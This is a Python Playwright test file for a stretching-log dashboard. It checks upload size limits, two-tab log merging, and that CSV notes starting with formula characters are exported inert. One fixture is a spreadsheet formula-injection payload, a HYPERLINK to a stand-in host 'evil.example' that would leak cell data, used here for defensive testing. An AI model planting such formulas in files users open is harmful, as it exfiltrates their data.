"""Hostile uploads and downloads of the session log, in a real headless Chromium against the served
dashboard (Voilà from the repository root, as scripts/start.sh serves it).

A file over the upload limit is refused by the page itself, before it is read: the 21.8 MB file that used
to drop the websocket with no word now gets a plain message, and the page keeps working. A note that a
spreadsheet would run as a formula is downloaded back inert. With the operator's server-side store on,
two tabs of one person share the saved log and neither wipes the other's sessions.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

import iliopsoas_lib as il
from iliopsoas_lib.server.ports import free_port

from .conftest import serve

# The dashboard's own fixtures (served as scripts/start.sh serves it, a phone's viewport) and helpers.
from .test_dashboard import (  # noqa: F401
    browser_context_args,
    dashboard_url,
    open_dashboard,
    ready_routine,
    upload,
)

HEADER = "date,stretches,duration_seconds,note\n"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def pick_path(page: Page, path: Path) -> None:
    """Click the upload button and pick a file from the disk in the chooser it opens."""
    with page.expect_file_chooser() as chooser:
        page.locator(".ilio-upload").click()
    chooser.value.set_files(path)


def test_an_oversized_file_is_refused_on_the_page_and_the_page_keeps_working(
    page: Page,
    dashboard_url: str,  # noqa: F811 - the fixture imported above
    tmp_path: Path,
) -> None:
    sent: list[int] = []  # bytes of every websocket frame the page sends
    page.on("websocket", lambda ws: ws.on("framesent", lambda frame: sent.append(len(frame))))
    open_dashboard(page, dashboard_url)
    ready_routine(page, "has_bed")
    message = page.locator(".ilio-log-view .ilio-message")
    summary = page.locator(".ilio-week-summary")
    big = tmp_path / "big.csv"
    big.write_bytes((HEADER + "2026-11-02,hip_flexor_bed,600,padding\n" * 580_000).encode()[:21_800_000])
    assert big.stat().st_size == 21_800_000

    pick_path(page, big)
    expect(message).to_have_text(
        "This file is too big (21.8 MB). A session log is much smaller: up to 1 MB. "
        "Nothing from this file was added. Your log is as it was."
    )
    expect(message.locator("[role=alert]")).to_be_visible()
    assert max(sent, default=0) < 10_000, "the big file was sent to the kernel"

    page.locator(".ilio-log-button").click()  # the kernel still answers
    expect(summary).to_contain_text("Sessions logged in all: 1")
    upload(page, "earlier.csv", (HEADER + "2026-11-02,hip_flexor_bed,600,\n").encode())
    expect(message).to_contain_text("earlier.csv: 1 new session added")
    expect(summary).to_contain_text("Sessions logged in all: 2")


def test_a_formula_note_is_downloaded_back_inert_and_reads_back_the_same(
    page: Page,
    dashboard_url: str,  # noqa: F811 - the fixture imported above
    tmp_path: Path,
) -> None:
    open_dashboard(page, dashboard_url)
    message = page.locator(".ilio-log-view .ilio-message")
    rows = [
        ["2026-11-02", "glute_bridge", "600", FORMULA],
        ["2026-11-04", "glute_bridge", "600", "@SUM(1+1)"],
    ]
    text = io.StringIO()
    csv.writer(text).writerows([HEADER.strip().split(","), *rows])
    upload(page, "notes.csv", text.getvalue().encode())
    expect(message).to_contain_text("notes.csv: 2 new sessions added")
    expect(page.locator(".ilio-recent")).to_contain_text(FORMULA)  # shown as the text it is

    with page.expect_download() as download:
        page.locator(".ilio-download-link").click()
    saved = tmp_path / "log.csv"
    download.value.save_as(saved)
    cells = list(csv.reader(io.StringIO(saved.read_text(encoding="utf-8"), newline="")))
    assert [row[3] for row in cells[1:]] == ["'" + FORMULA, "'@SUM(1+1)"]  # a spreadsheet shows text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row)

    upload(page, "log.csv", saved.read_bytes())  # the download reads back as the same two sessions
    expect(message).to_contain_text("log.csv: 0 new sessions added")
    expect(page.locator(".ilio-week-summary")).to_contain_text("Sessions logged in all: 2")


@pytest.fixture(scope="module")
def saving_dashboard(
    server_logs: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, Path]]:
    """The dashboard with the operator's server-side store on (``ILIOPSOAS_SAVE_LOG=1``), its data folder
    a fresh temporary one: the set-up of a JupyterHub user's own server, where two tabs share one file."""
    data = tmp_path_factory.mktemp("data")
    port = free_port()
    url = f"http://127.0.0.1:{port}/"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ILIOPSOAS_SAVE_LOG", "1")
        patch.setenv("XDG_DATA_HOME", str(data))
        with serve(["iliopsoas_lib.server", "--port", str(port)], url, server_logs / "saving-dashboard.log"):
            yield url, data / "iliopsoas-explainer" / "session_log.json"


def test_two_tabs_sharing_the_saved_log_keep_every_session(browser: Browser, saving_dashboard) -> None:
    url, saved = saving_dashboard
    first_ctx, second_ctx = browser.new_context(), browser.new_context()
    try:
        first = open_dashboard(first_ctx.new_page(), url)
        ready_routine(first, "has_bed")
        first.locator(".ilio-log-button").click()
        expect(first.locator(".ilio-log-view .ilio-message")).to_contain_text("Saved to session_log.json")
        # The second tab's kernel was preheated before that save: shown, it reads the file again.
        second = open_dashboard(second_ctx.new_page(), url)
        expect(second.locator(".ilio-week-summary")).to_contain_text("Sessions logged in all: 1")
        ready_routine(second, "has_bed")
        second.locator(".ilio-log-button").click()
        expect(second.locator(".ilio-week-summary")).to_contain_text("Sessions logged in all: 2")
        first.locator(".ilio-log-button").click()  # its save merges: the second tab's session stays
        expect(first.locator(".ilio-week-summary")).to_contain_text("Sessions logged in all: 3")
    finally:
        first_ctx.close()
        second_ctx.close()
    assert len(il.SessionLog.load(saved)) == 3
